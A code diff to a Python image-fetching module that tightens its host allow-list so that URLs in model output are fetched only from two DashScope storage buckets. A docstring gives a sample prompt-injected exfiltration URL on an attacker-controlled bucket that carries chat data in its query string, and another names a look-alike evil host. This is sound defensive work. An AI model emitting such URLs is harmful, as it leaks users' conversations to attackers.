@@ -11,7 +11,11 @@ The URLs come from model output, i.e. from whoever can influence a prompt, so fe
 SSRF surface (ecosystem notes §5.3). :func:`fetch_image` therefore:
 
 * fetches ``http``/``https`` only, refuses ``user:pw@`` URLs, and only hosts on the allow-list
-  (:attr:`ImagePolicy.hosts`; ``.aliyuncs.com`` by default, a leading dot meaning "any subdomain");
+  (:attr:`ImagePolicy.hosts`, a leading dot meaning "any subdomain"). The default,
+  :data:`DEFAULT_IMAGE_HOSTS`, is the two OSS buckets DashScope itself writes plugin output to, not
+  ``.aliyuncs.com``: anyone can create a bucket there, so a prompt-injected
+  ``https://attacker.oss-cn-beijing.aliyuncs.com/pixel.png?d=<chat data>`` would otherwise be
+  fetched with no click. Other links are shown, unfetched, with the reason;
 * uses https for every host except the *trusted* ones (the configured DashScope base URL, e.g. the
   loopback fake). A plain ``http://`` URL on an allow-listed host is **upgraded** to https rather
   than refused: DashScope's own ``text_to_image`` example links ``http://…aliyuncs.com``, and OSS
@@ -87,8 +91,15 @@ __all__ = [
 
 ImageMime = Literal["image/png", "image/jpeg", "image/gif", "image/webp"]
 
-#: Where DashScope puts plugin outputs (OSS buckets). A leading dot means "any subdomain of".
-DEFAULT_IMAGE_HOSTS: tuple[str, ...] = (".aliyuncs.com",)
+#: The OSS buckets DashScope itself writes plugin output to, the only hosts fetched by default.
+#: Both appear in the vendor's plugin page (seed/plugin-call-examples.txt), dashmagic/demo/seed.jsonl,
+#: every notebooks/recordings/*.jsonl and dashmagic/testing/exchanges.json. ``.aliyuncs.com`` is
+#: not enough: any customer's bucket lives there. Entries are exact hosts (any port); a leading
+#: dot would mean "any subdomain of".
+DEFAULT_IMAGE_HOSTS: tuple[str, ...] = (
+    "dashscope-cn-beijing.oss-cn-beijing.aliyuncs.com",  # code_interpreter figures (https)
+    "dashscope-result-bj.oss-cn-beijing.aliyuncs.com",  # text_to_image pictures (linked as http)
+)
 #: Per-image byte cap. base64 in the .ipynb costs x1.33 on top (ecosystem notes §2.3).
 DEFAULT_MAX_BYTES = 5 * 1024 * 1024
 #: Seconds allowed for the connect and for each read.
@@ -145,7 +156,8 @@ def sniff_mime(data: bytes) -> ImageMime | None:
 class ImagePolicy:
     """Which figure URLs may be fetched, and how much of them.
 
-    ``hosts``: the allow-list. An entry starting with ``.`` matches any subdomain
+    ``hosts``: the allow-list (default :data:`DEFAULT_IMAGE_HOSTS`, DashScope's own output
+    buckets). An entry starting with ``.`` matches any subdomain
     (``.aliyuncs.com`` matches ``x.aliyuncs.com``, not ``aliyuncs.com.evil.example``,
     ``evilaliyuncs.com`` or the bare ``aliyuncs.com``), on any port. Other entries are exact host
     names or IP literals, optionally with ``:port``. Matching is case-insensitive. These hosts are
@@ -332,7 +344,10 @@ def _vet(url: object, policy: ImagePolicy, *, redirect_from: _Target | None = No
     if not trusted and not policy.is_allowed(host, effective_port):
         if redirect_from is not None:
             raise ImageRefused(f"redirect to a host not on the allow-list ({host})")
-        raise ImageRefused(f"host {host} is not on the image allow-list (DashMagics.image_hosts)")
+        raise ImageRefused(
+            f"not fetched automatically: host {host} is not one DashScope uses for plugin output;"
+            " add it to the image_hosts allow-list to fetch it"
+        )
     if scheme == "http" and not trusted:
         # Upgrade rather than refuse: see the module docstring.
         scheme, port = "https", (None if port == 80 else port)
